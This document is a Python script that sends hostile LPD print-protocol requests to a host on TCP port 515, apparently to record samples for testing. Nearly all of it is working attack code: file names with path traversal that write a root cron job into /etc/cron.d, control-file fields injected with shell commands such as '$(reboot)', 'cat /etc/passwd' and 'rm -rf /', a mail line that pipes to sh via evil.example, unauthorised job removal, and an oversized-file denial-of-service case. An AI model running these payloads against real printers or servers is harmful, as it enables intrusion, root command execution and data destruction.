#!/usr/bin/env python3
"""Hostile LPD (RFC 1179, TCP 515) requests, sent by hand, used only to record samples.

The cases follow PRET's ``lpdtest.py`` and the classic LPD daemon attacks; each is one TCP
connection to HOST:515, in this order:

  traversal   receive-job whose control-file and data-file names carry ``../`` path traversal
  metachars   receive-job whose control file has shell metacharacters in the H, P, J, C, L and
              N lines (``$(reboot)``, backticks, ``;``, ``|``) and an M (mail) line
  remove      remove-jobs ``\\x05queue root 42\\n``
  short       short queue state ``\\x03queue\\n``
  long        long queue state ``\\x04queue alice\\n``
  two-jobs    two jobs (control + data file pairs) in one connection
  sizes       a job whose data file is announced with size 0, then a data file announced with
              999999999999 bytes, cut by the end of the connection after 64 bytes

Usage:  lpd_send.py HOST [--queue NAME] [--only CASE ...]

It talks only to HOST (no name lookups), waits at most --wait seconds for any answer and
sends a bounded, fixed amount of data.  Python 3 standard library only.
"""

import argparse
import socket
import sys
import time

PS = b"%!PS\n/Helvetica findfont 12 scalefont setfont 72 720 moveto (lpd test) show showpage\n"


def log(msg):
    print(msg, file=sys.stderr, flush=True)


class Client:
    def __init__(self, host, port, wait):
        self.s = socket.create_connection((host, port), timeout=wait)
        self.s.settimeout(wait)

    def ack(self, what):
        try:
            b = self.s.recv(1)
        except socket.timeout:
            log(f"    {what}: no answer")
            return False
        if b != b"\x00":
            log(f"    {what}: answer {b!r}")
            return False
        return True

    def cmd(self, data, what):
        self.s.sendall(data)
        return self.ack(what)

    def file(self, code, name, body, size=None):
        size = len(body) if size is None else size
        if not self.cmd(bytes([code]) + str(size).encode() + b" " + name + b"\n",
                        f"subcommand {code} {name!r}"):
            return False
        self.s.sendall(body + b"\x00")
        return self.ack(f"file {name!r}")

    def read_all(self, limit=4096):
        out = b""
        try:
            while len(out) < limit:
                chunk = self.s.recv(limit - len(out))
                if not chunk:
                    break
                out += chunk
        except socket.timeout:
            pass
        return out

    def close(self):
        self.s.close()


def control(lines):
    return b"".join(l + b"\n" for l in lines)


def case_traversal(c, q):
    c.cmd(b"\x02" + q + b"\n", "receive job")
    cf = control([b"Hprinthost", b"Palice", b"J../../etc/passwd",
                  b"ldfA001../../../../etc/cron.d/evil", b"UdfA001../../../../etc/cron.d/evil",
                  b"Nevil"])
    c.file(2, b"cfA001../../../../etc/cron.d/evil", cf)
    c.file(3, b"dfA001../../../../etc/cron.d/evil", b"* * * * * root id > /tmp/lpd-pwned\n")


def case_metachars(c, q):
    c.cmd(b"\x02" + q + b"\n", "receive job")
    cf = control([b"Hws$(reboot)", b"Proot;id", b"J`touch /tmp/pwned`|cat /etc/passwd",
                  b"Cclass$(id)", b"Lroot`id`", b"Mroot@evil.example;id|sh",
                  b"ldfA002ws", b"UdfA002ws", b"Nreport.ps;rm -rf /"])
    c.file(2, b"cfA002ws", cf)
    c.file(3, b"dfA002ws", PS)


def case_remove(c, q):
    c.s.sendall(b"\x05" + q + b" root 42\n")
    log(f"    answer {c.read_all()!r}")


def case_short(c, q):
    c.s.sendall(b"\x03" + q + b"\n")
    log(f"    answer {c.read_all()!r}")


def case_long(c, q):
    c.s.sendall(b"\x04" + q + b" alice\n")
    log(f"    answer {c.read_all()!r}")


def case_two_jobs(c, q):
    c.cmd(b"\x02" + q + b"\n", "receive job")
    for n in (3, 4):
        dname = b"dfA%03dws" % n
        c.file(2, b"cfA%03dws" % n, control([b"Hws", b"Palice", b"J job %d" % n,
                                              b"l" + dname, b"U" + dname, b"Njob%d.ps" % n]))
        c.file(3, dname, PS)


def case_sizes(c, q):
    c.cmd(b"\x02" + q + b"\n", "receive job")
    c.file(2, b"cfA005ws", control([b"Hws", b"Palice", b"ldfA005ws", b"ldfB005ws",
                                     b"UdfA005ws", b"UdfB005ws", b"Nsizes"]))
    c.file(3, b"dfA005ws", b"")
    # An absurd announced size; 64 bytes follow, then the connection ends.
    if c.cmd(b"\x03999999999999 dfB005ws\n", "absurd data file"):
        c.s.sendall(b"A" * 64)
        time.sleep(0.2)


CASES = {
    "traversal": case_traversal,
    "metachars": case_metachars,
    "remove": case_remove,
    "short": case_short,
    "long": case_long,
    "two-jobs": case_two_jobs,
    "sizes": case_sizes,
}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("host")
    ap.add_argument("--port", type=int, default=515)
    ap.add_argument("--queue", default="queue1")
    ap.add_argument("--wait", type=float, default=3.0, help="seconds to wait for an answer")
    ap.add_argument("--only", nargs="*", choices=list(CASES))
    args = ap.parse_args()
    q = args.queue.encode()
    for name in args.only or list(CASES):
        log(f"== {name}")
        c = Client(args.host, args.port, args.wait)
        try:
            CASES[name](c, q)
        except OSError as e:
            log(f"    {name}: {e}")
        finally:
            c.close()
        time.sleep(0.3)
    return 0


if __name__ == "__main__":
    sys.exit(main())
